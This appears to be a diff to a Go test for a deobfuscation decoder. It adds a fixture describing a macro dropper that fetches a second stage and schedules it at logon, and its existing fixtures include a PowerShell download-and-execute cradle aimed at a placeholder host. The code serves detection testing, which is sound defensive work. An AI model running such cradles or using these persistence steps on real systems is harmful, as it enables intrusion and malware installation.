@@ -82,6 +82,9 @@ func containsAny(layers []string, want string) bool {
 func TestDecoders(t *testing.T) {
 	const secret = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/p.ps1')"
 	xorKeyed := func(s string, k []byte) []byte { return xorKey([]byte(s), k) }
+	prose := "When the victim opens the attachment, the macro writes a script to the temp folder and runs it. " +
+		"The script fetches the second stage from http://evil.example.com/x.exe over plain HTTP, saves it next to " +
+		"the user's documents, and schedules it to start at every logon so that the implant survives a reboot."
 	long := strings.Repeat("The payload downloads http://evil.example.com/x.exe and runs it with cmd /c start. ", 4)
 	tests := []struct {
 		name  string
@@ -118,7 +121,7 @@ func TestDecoders(t *testing.T) {
 		{"zlib base64", "z = '" + b64(zl(t, []byte(long))) + "'", "evil.example.com/x.exe", "zlib"},
 		{"deflate base64", "[IO.Compression.DeflateStream] '" + b64(deflateRaw(t, []byte(long))) + "'", "evil.example.com/x.exe", "deflate"},
 		{"single xor", "blob = '" + b64(xorKeyed(long, []byte{0x37})) + "'", "evil.example.com/x.exe", "xor(0x37)"},
-		{"repeating xor", "blob = '" + b64(xorKeyed(long+long, []byte("K3y!"))) + "'", "evil.example.com/x.exe", "xor(4b337921)"},
+		{"repeating xor", "blob = '" + b64(xorKeyed(prose, []byte("K3y!"))) + "'", "evil.example.com/x.exe", "xor(4b337921)"},
 		{"utf16le base64", "x='" + b64(utf16le(secret)) + "'", secret, "utf16le"},
 	}
 	for _, tc := range tests {
